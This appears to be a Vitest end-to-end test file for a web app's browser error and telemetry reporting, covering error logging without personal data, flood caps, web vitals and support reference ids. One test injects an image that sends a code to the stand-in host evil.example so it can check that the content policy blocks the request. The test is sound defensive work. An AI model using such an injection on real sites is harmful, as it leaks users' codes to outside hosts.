import { expect, test } from "vitest";
import { findBarriers } from "../../../support/accessibility.ts";
import { untilIdle } from "../../../support/idle.ts";
import { journey } from "../../../support/journey.ts";
import { mintSession } from "../../../support/mint-session.ts";
import { navigate } from "../../../support/pages.ts";

const { open, origin, audit } = journey();

const reports = async (type: string) =>
  (await audit())
    .filter(({ eventType }) => eventType === type)
    .map(({ eventDetails }) => JSON.parse(eventDetails) as Readonly<Record<string, unknown>>);

/** Runs a script of the page that fails outside of React. */
const failTwice = () => {
  const typed = "margaret@hartwell.example";
  for (let times = 0; times < 2; times += 1) {
    setTimeout(() => {
      throw new RangeError(typed);
    });
  }
  void Promise.reject(new TypeError(typed));
};

test("OPS-08 uncaught errors reach the event log once, without text", async () => {
  const page = await open("/support", { as: "client-uk" });
  await page.getByRole("heading", { level: 1 }).waitFor();
  page.forgiveComplaints();
  await page.evaluate(failTwice);
  await expect.poll(() => reports("BrowserError")).toHaveLength(2);
  const sent = await reports("BrowserError");
  expect(new Set(sent.map(({ name }) => name))).toEqual(new Set(["RangeError", "TypeError"]));
  expect(sent[0]).toMatchObject({ page: "/support", role: "client" });
  expect(sent[0]?.["build"]).toMatch(/^[\w-]{8}$/);
  expect(JSON.stringify(sent)).not.toContain("margaret");
});

test("OPS-08 a violation of the content policy reaches the event log", async () => {
  const page = await open("/login");
  page.forgiveComplaints();
  await page.evaluate(() => {
    const image = document.createElement("img");
    image.src = "https://evil.example/x.png?code=123456";
    image.alt = "";
    document.body.append(image);
  });
  await expect.poll(() => reports("PolicyViolation")).toHaveLength(1);
  expect((await reports("PolicyViolation"))[0]).toMatchObject({
    directive: "img-src",
    blocked: "https://evil.example/",
    page: "/login",
    role: "nobody",
  });
});

test("OPS-08 a sampled page sends its vitals when it is hidden", async () => {
  const config = { vitalsSampleRate: 1 };
  const page = await open("/login", { config });
  await page.getByRole("heading", { level: 1 }).click();
  await expect
    .poll(() => page.evaluate(() => performance.getEntriesByType("paint").length))
    .toBeGreaterThan(0);
  // The code is loaded when the page is idle.
  await expect
    .poll(() =>
      page.evaluate(() =>
        performance.getEntriesByType("resource").some(({ name }) => /watch-browser/.test(name)),
      ),
    )
    .toBe(true);
  await untilIdle(page);
  // Entries of the past are given to an observer in a later task; the page's came first.
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const observer = new PerformanceObserver(() => resolve());
        observer.observe({ type: "largest-contentful-paint", buffered: true });
      }),
  );
  await page.evaluate(() => {
    Object.defineProperty(document, "visibilityState", { value: "hidden", configurable: true });
    Object.defineProperty(document, "hidden", { value: true, configurable: true });
    document.dispatchEvent(new Event("visibilitychange", { bubbles: true }));
  });
  await expect.poll(() => reports("WebVitals")).toHaveLength(1);
  expect((await reports("WebVitals"))[0]).toMatchObject({
    page: "/login",
    LCP: expect.any(Number),
  });
});

test("OPS-08 a flood of errors is capped at ten reports", async () => {
  const page = await open("/support", { as: "client-uk" });
  await page.getByRole("heading", { level: 1 }).waitFor();
  page.forgiveComplaints();
  const before = (await reports("BrowserError")).length;
  await page.evaluate(() => {
    for (const mark of "abcdefghijklmnopqrstuvwxyz") {
      const error = Object.assign(new Error("x"), { name: `Flood${mark}Error` });
      for (let times = 0; times < 20; times += 1) void Promise.reject(error);
    }
  });
  await expect.poll(async () => (await reports("BrowserError")).length).toBe(before + 10);
  await page.getByRole("link", { name: "Home" }).first().click();
  await page.getByRole("heading", { level: 1, name: /Margaret/ }).waitFor();
  expect((await reports("BrowserError")).length).toBe(before + 10);
});

test("OPS-08 a log that always fails is neither shown nor asked again", async () => {
  const sent: string[] = [];
  const page = await open("/support", {
    as: "client-uk",
    fault: "logEvent=500",
    expectFailures: true,
    before: async (started) => {
      started.on("request", (request) => {
        if (request.postData()?.includes("BrowserError")) sent.push(request.url());
      });
    },
  });
  await page.getByRole("heading", { level: 1 }).waitFor();
  page.forgiveComplaints();
  await page.evaluate(failTwice);
  await expect.poll(() => sent.length).toBe(2);
  await page.getByRole("link", { name: "Home" }).first().click();
  await page.getByRole("heading", { level: 1, name: /Margaret/ }).waitFor();
  expect(sent).toHaveLength(2);
  expect(await page.getByRole("alert").filter({ hasText: /\S/ }).count()).toBe(0);
});

test("OPS-08 reports can be switched off", async () => {
  const page = await open("/login", { config: { reportErrors: false } });
  page.forgiveComplaints();
  const before = (await reports("BrowserError")).length;
  await page.evaluate(failTwice);
  await page.getByRole("link", { name: /forgot/i }).click();
  await page.getByRole("heading", { level: 1, name: /password/i }).waitFor();
  expect(await reports("BrowserError")).toHaveLength(before);
});

test("OPS-08 a failed block, team and query show their request's id", async () => {
  const ids: (string | undefined)[] = [];
  const page = await open("/pageunderconstruction", {
    as: "client-uk",
    fault: "whatsNew=500, contacts=500, holdings=500",
    expectFailures: true,
    before: async (started) => {
      started.on("response", (response) => {
        if (response.status() === 500) ids.push(response.headers()["x-request-id"]);
      });
    },
  });
  for (const path of ["/support", "/mcst", "/unaudited?tab=holdings"]) {
    ids.length = 0;
    await navigate(page, path);
    const reference = page.getByRole("main").getByText(/^Reference for support: [\da-f]{8}$/);
    const text = await reference.first().textContent();
    expect(ids.map((id) => `Reference for support: ${id?.slice(0, 8)}`)).toContain(text);
    expect.soft(await findBarriers(page), path).toEqual([]);
  }
});

test("OPS-08 a failed action shows the id of its request for support", async () => {
  const ids: (string | undefined)[] = [];
  // Another session, which is to be ended.
  await mintSession(origin(), "client-uk");
  const page = await open("/profile?tab=Security", {
    as: "client-uk",
    fault: "endOtherSessions=500",
    expectFailures: true,
    before: async (started) => {
      started.on("response", (response) => {
        if (response.status() === 500) ids.push(response.headers()["x-request-id"]);
      });
    },
  });
  await page.getByRole("button", { name: "Sign out all other sessions" }).click();
  const dialog = page.getByRole("alertdialog");
  await dialog.getByRole("button", { name: /Sign out/ }).click();
  const text = await dialog.getByText(/Reference for support: [\da-f]{8}$/).textContent();
  expect(ids.some((id) => text?.endsWith(`${id?.slice(0, 8)}`))).toBe(true);
});

test("OPS-08 failed reads and actions show their id, wherever they are", async () => {
  const fault = "listSearchCriteria=500, saveHomeLayout=500, ldi=500";
  const page = await open("/home", { as: "client-uk", fault, expectFailures: true });
  const reference = /Reference for support: [\da-f]{8}/;
  await page.getByRole("button", { name: "Arrange this page" }).click();
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("switch", { name: "Insights" }).uncheck();
  await dialog.getByText(reference).waitFor();
  await dialog.getByRole("button", { name: "Done" }).click();
  await page.keyboard.press("ControlOrMeta+k");
  await page.getByRole("dialog").getByText(reference).waitFor();
  await page.keyboard.press("Escape");
  await page.goto("/home?view=funding-level");
  await page.getByText(reference).first().waitFor();
});
